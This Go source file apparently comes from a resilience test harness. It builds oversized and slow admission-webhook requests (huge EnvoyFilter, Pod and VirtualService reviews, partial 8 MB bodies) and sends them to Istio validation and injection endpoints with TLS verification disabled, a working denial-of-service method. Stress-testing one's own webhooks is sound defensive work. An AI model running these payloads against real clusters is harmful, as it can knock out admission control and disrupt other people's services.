package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
)

// The attacks on the address of admission webhooks, which asks for no credential. Reviews that an API server would pass
// on are of HeavyFilter, LargePod, WrongRule, ManySubnets and ManyConditions.

// Their names.
const (
	ReviewsHeavy   = "reviews-heavy"
	ReviewsPods    = "reviews-pods"
	ReviewsWrong   = "reviews-wrong"
	ReviewsSlow    = "reviews-slow"
	ReviewsSubnets = "reviews-subnets"
	ReviewsHalf    = "reviews-half"
	ReviewsLimits  = "reviews-limits"
)

// ReviewAttacks are all of them.
var ReviewAttacks = []string{ReviewsHeavy, ReviewsPods, ReviewsWrong, ReviewsSlow, ReviewsSubnets, ReviewsHalf, ReviewsLimits}

// heavyValues is the number of values in a review of 8 MB, TenantValues in one that an API server accepts (3 MB).
const heavyValues, TenantValues = 2_700_000, 900_000

// HeavyFilter returns an EnvoyFilter as JSON. Its patch has a list of `values` objects without fields, each of which
// has three bytes, and hundreds once it is decoded.
func HeavyFilter(namespace string, values int) []byte {
	return fmt.Appendf(nil,
		`{"apiVersion":"networking.istio.io/v1alpha3","kind":"EnvoyFilter","metadata":{"name":"heavy","namespace":%q},"spec":{"configPatches":[`+
			`{"applyTo":"CLUSTER","patch":{"operation":"MERGE","value":{"a":[%s{}]}}}]}}`, namespace, strings.Repeat("{},", values))
}

// LargePod returns a Pod as JSON, with volumes that have only a name.
func LargePod(namespace string, volumes int) []byte {
	var all bytes.Buffer
	for i := range volumes {
		fmt.Fprintf(&all, `{"name":"v%d"},`, i)
	}
	return fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"large","namespace":%q},`+
		`"spec":{"containers":[{"name":"app","image":"app"}],"volumes":[%s{"name":"v"}]}}`,
		namespace, all.Bytes())
}

// LargeVolumes is the number of volumes in a Pod of 1 MB.
const LargeVolumes = 60_000

// ManySubnets is a VirtualService, as JSON, of connections to so many networks. Each may have addresses of others.
func ManySubnets(namespace, name string, subnets int) []byte {
	var all bytes.Buffer
	for i := range subnets {
		fmt.Fprintf(&all, `"203.%d.%d.%d/30",`, i>>14, i>>6&255, i<<2&255)
	}
	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"VirtualService","metadata":{"name":%q,"namespace":%q},`+
		`"spec":{"hosts":["a.example.com"],"tcp":[{"match":[{"destinationSubnets":[%s"192.0.2.0/24"]}],`+
		`"route":[{"destination":{"host":"a.example.com"}}]}]}}`, name, namespace, all.Bytes())
}

// LargeSubnets counts the networks of a VirtualService of 1.7 MB, almost as many values as an object may have.
const LargeSubnets = 95_000

// ManyConditions is a VirtualService, as JSON, with this many conditions on headers. It is valid. Of all objects with
// as many values as an object may have, it is one of those that take longest to validate.
func ManyConditions(namespace string, conditions int) []byte {
	var all bytes.Buffer
	for i := range conditions {
		fmt.Fprintf(&all, `"h%d":{"exact":"a"},`, i)
	}
	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"VirtualService","metadata":{"name":"limits","namespace":%q},`+
		`"spec":{"hosts":["a.example.com"],"http":[{"match":[{"headers":{%s"h":{"exact":"a"}}}],`+
		`"route":[{"destination":{"host":"a.example.com"}}]}]}}`, namespace, all.Bytes())
}

// MostConditions counts the conditions of a VirtualService of almost 100,000 values and 1.1 MB.
const MostConditions = 49_900

// WrongRule is a DestinationRule, as JSON, of 58 KB: its subsets have no name.
func WrongRule(namespace string) []byte {
	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"DestinationRule","metadata":{"name":"wrong","namespace":%q},`+
		`"spec":{"host":"a","subsets":[%s{}]}}`,
		namespace, strings.Repeat("{},", 19_000))
}

// reviewOf returns an API server's review of the creation of an object.
func reviewOf(group, version, kind string, object []byte) []byte {
	return fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview",`+
		`"request":{"uid":"1","kind":{"group":%q,"version":%q,"kind":%q},"namespace":"tenant",`+
		`"operation":"CREATE","object":%s}}`, group, version, kind, object)
}

var (
	heavyReview = sync.OnceValue(func() []byte {
		return reviewOf("networking.istio.io", "v1alpha3", "EnvoyFilter", HeavyFilter("tenant", heavyValues))
	})
	largeReview = sync.OnceValue(func() []byte { return reviewOf("", "v1", "Pod", LargePod("tenant", LargeVolumes)) })
	wrongReview = sync.OnceValue(func() []byte {
		return reviewOf("networking.istio.io", "v1", "DestinationRule", WrongRule("tenant"))
	})
)

var subnetsReview = sync.OnceValue(func() []byte {
	return reviewOf("networking.istio.io", "v1", "VirtualService", ManySubnets("tenant", "subnets", LargeSubnets))
})

var limitsReview = sync.OnceValue(func() []byte {
	return reviewOf("networking.istio.io", "v1", "VirtualService", ManyConditions("tenant", MostConditions))
})

func limitReviews(ctx context.Context, w *attacker) string {
	return w.reviews(ctx, "/validate", limitsReview())
}
func subnetReviews(ctx context.Context, w *attacker) string {
	return w.reviews(ctx, "/validate", subnetsReview())
}
func heavyReviews(ctx context.Context, w *attacker) string {
	return w.reviews(ctx, "/validate", heavyReview())
}
func largeReviews(ctx context.Context, w *attacker) string {
	return w.reviews(ctx, "/inject", largeReview())
}
func wrongReviews(ctx context.Context, w *attacker) string {
	return w.reviews(ctx, "/validate", wrongReview())
}

// reviews sends one review repeatedly on one connection, and reads the answers.
func (w *attacker) reviews(ctx context.Context, path string, body []byte) string {
	transport := &http.Transport{MaxConnsPerHost: 1, DisableCompression: true,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12},
		DialContext:     func(ctx context.Context, _, _ string) (net.Conn, error) { return w.dialTo(ctx, w.Webhooks) }}
	defer transport.CloseIdleConnections()
	for {
		r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://localhost"+path, bytes.NewReader(body))
		if err != nil {
			return err.Error()
		}
		r.Header.Set("Content-Type", "application/json")
		if came := w.exchange(ctx, transport, r); came != "" {
			return came
		}
	}
}

// slowReviews sends the first byte of a review.
func slowReviews(ctx context.Context, w *attacker) string { return w.unfinishedReview(ctx, 1) }

// halfReviews sends a little more of a review than a server may count before it arrives (32 KiB).
func halfReviews(ctx context.Context, w *attacker) string { return w.unfinishedReview(ctx, 33<<10) }

// unfinishedReview announces a review of 8 MB, sends this many bytes of it, and waits for the server to close the
// connection.
func (w *attacker) unfinishedReview(ctx context.Context, sent int) string {
	raw, err := w.dialTo(ctx, w.Webhooks)
	if err != nil {
		return w.unconnected(ctx)
	}
	defer raw.Close()
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12})
	if _, err := fmt.Fprintf(conn, "POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"+
		"Content-Length: %d\r\n\r\n{%s", 8<<20, strings.Repeat(" ", sent-1)); err != nil {
		return w.unconnected(ctx)
	}
	return wait(ctx, conn)
}
